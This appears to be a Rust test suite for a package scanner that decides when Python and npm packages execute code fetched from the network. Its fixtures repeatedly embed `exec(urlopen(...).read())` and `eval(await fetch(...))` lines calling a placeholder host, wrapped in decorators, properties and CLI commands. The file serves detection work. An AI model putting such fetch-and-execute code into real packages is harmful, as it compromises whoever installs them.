use crate::flow::testing::{remote_code, wheel};
use crate::unpack::Entry;
use customs_model::Zone;

/// When a package runs what it downloads.
fn runs(entries: Vec<Entry>) -> Zone {
    remote_code(entries).unwrap_or(Zone::Never)
}

fn python(code: &str) -> Zone {
    runs(wheel(code))
}

const HEAD: &str = "\
import abc, contextlib, dataclasses, functools, typing
import urllib.request
";
const WORK: &str = "exec(urllib.request.urlopen('https://a.invalid/b').read())";

#[test]
fn decorators_of_the_library_call_nothing() {
    for decorator in [
        "@property",
        "@classmethod",
        "@staticmethod",
        "@abc.abstractmethod",
        "@functools.cached_property",
        "@functools.lru_cache",
        "@functools.lru_cache(maxsize=8)",
        "@functools.wraps(print)",
        "@contextlib.contextmanager",
        "@typing.overload",
        "@classmethod\n    @contextlib.contextmanager",
    ] {
        let code = format!("{HEAD}class A:\n    {decorator}\n    def go(self):\n        {WORK}\n");
        assert_eq!(python(&code), Zone::Called, "{decorator}");
    }
    for decorator in [
        "@dataclasses.dataclass",
        "@dataclasses.dataclass(frozen=True)",
    ] {
        let code = format!("{HEAD}{decorator}\nclass A:\n    def go(self):\n        {WORK}\n");
        assert_eq!(python(&code), Zone::Called, "{decorator}");
    }
}

#[test]
fn what_such_a_decorator_keeps_runs_when_it_is_called_at_import() {
    let cases = [
        ("@property", "A().go"),
        ("@property", "print(A().go)"),
        ("@property", "x = [A().go]"),
        ("@functools.cached_property", "A().go"),
        ("@classmethod", "A.go()"),
        ("@staticmethod", "A.go()"),
        ("@functools.lru_cache", "A().go()"),
        ("@contextlib.contextmanager", "with A().go():\n    pass"),
    ];
    for (decorator, last) in cases {
        let code =
            format!("{HEAD}class A:\n    {decorator}\n    def go(self):\n        {WORK}\n{last}\n");
        assert_eq!(python(&code), Zone::Import, "{decorator} {last}");
    }
}

#[test]
fn a_property_runs_when_a_method_that_runs_reads_it() {
    let class = |last: &str| {
        format!(
            "{HEAD}class A:\n    @property\n    def go(self):\n        {WORK}\n    \
             def all(self):\n        return self.go\n{last}\n"
        )
    };
    assert_eq!(python(&class("A().all()")), Zone::Import);
    assert_eq!(python(&class("A()")), Zone::Called);
    assert_eq!(
        python(&class("if __name__ == '__main__':\n    A().all()")),
        Zone::Called
    );
}

#[test]
fn a_setter_runs_when_something_is_put_there() {
    let class = |last: &str| {
        format!(
            "{HEAD}class A:\n    @property\n    def go(self):\n        return 1\n    \
             @go.setter\n    def go(self, value):\n        {WORK}\n{last}\n"
        )
    };
    assert_eq!(python(&class("")), Zone::Called);
    assert_eq!(python(&class("A().go = 2")), Zone::Import);
}

#[test]
fn what_python_calls_of_a_decorated_class_is_not_taken_to_wait() {
    let code = format!(
        "{HEAD}@dataclasses.dataclass\nclass A:\n    def __post_init__(self):\n        {WORK}\n"
    );
    assert_eq!(python(&code), Zone::Import);
}

#[test]
fn settings_of_a_cache_may_be_a_function_that_calls_the_one_below() {
    let code =
        format!("{HEAD}def now(f):\n    f()\n@functools.lru_cache(now)\ndef go():\n    {WORK}\n");
    assert_eq!(python(&code), Zone::Import);
}

#[test]
fn a_name_of_the_library_that_the_package_defines_is_its_own() {
    let code = format!("{HEAD}def property(f):\n    f()\n@property\ndef go():\n    {WORK}\n");
    assert_eq!(python(&code), Zone::Import);
}

#[test]
fn a_command_of_a_group_waits_for_it() {
    let code = format!(
        "import click\n{HEAD}@click.group()\ndef cli():\n    pass\n\
         @cli.group()\ndef sub():\n    pass\n@sub.command('go')\ndef go():\n    {WORK}\n"
    );
    assert_eq!(python(&code), Zone::Command);
    let added = format!(
        "import click\n{HEAD}@click.group()\ndef cli():\n    pass\n\
         def go():\n    {WORK}\ncli.add_command(go)\n"
    );
    assert_eq!(python(&added), Zone::Command);
    let own = format!(
        "{HEAD}def now(f):\n    f.command = lambda: lambda g: g()\n    return f\n\
         @now\ndef cli():\n    pass\n@cli.command()\ndef go():\n    {WORK}\n"
    );
    assert_eq!(python(&own), Zone::Import);
}

#[test]
fn who_asks_what_something_is_calls_none_of_its_methods() {
    for last in [
        "isinstance(1, A)",
        "issubclass(dict, (A, list))",
        "T = typing.TypeVar('T', bound=A)",
        "typing.cast(A, 1)",
    ] {
        let class =
            |name: &str| format!("{HEAD}class A:\n    def {name}(self):\n        {WORK}\n{last}\n");
        assert_eq!(python(&class("go")), Zone::Called, "{last}");
        assert_eq!(python(&class("__subclasshook__")), Zone::Import, "{last}");
    }
    let handed = format!("{HEAD}class A:\n    def go(self):\n        {WORK}\nprint(A)\n");
    assert_eq!(python(&handed), Zone::Import);
}

/// When a module of npm runs what it downloads.
fn javascript(code: &str) -> Zone {
    let manifest = r#"{"name": "a", "version": "1.0.0", "main": "i.js"}"#;
    runs(vec![
        crate::unpack::text_file("package/package.json", manifest),
        crate::unpack::text_file("package/i.js", code),
    ])
}

#[test]
fn who_asks_whether_something_is_kept_does_not_take_it() {
    let when = |last: &str| {
        javascript(&format!(
            "const b = {{}};\nfunction set(o) {{ o.load = async () => eval(await (await \
             fetch('https://a.invalid/b')).text()) }}\nset(b);\n{last}\nmodule.exports = b;\n"
        ))
    };
    for asks in [
        "!b.load && b.read && (b.read = 1);",
        "b.load && b.read && (b.read = 1);",
        "b.load || (b.load = 1);",
        "const has = b.load ? 1 : 2;",
        "const has = b.load === undefined;",
        "if (b.read || b.load) { b.read = 1 }",
        "while (b.load && !b.read) { b.read = 1 }",
    ] {
        assert_eq!(when(asks), Zone::Called, "{asks}");
    }
    for takes in [
        "b.load && b.load();",
        "const go = b.read || b.load; go();",
        "const go = b.load ? b.load : b.read; go();",
    ] {
        assert_eq!(when(takes), Zone::Import, "{takes}");
    }
}
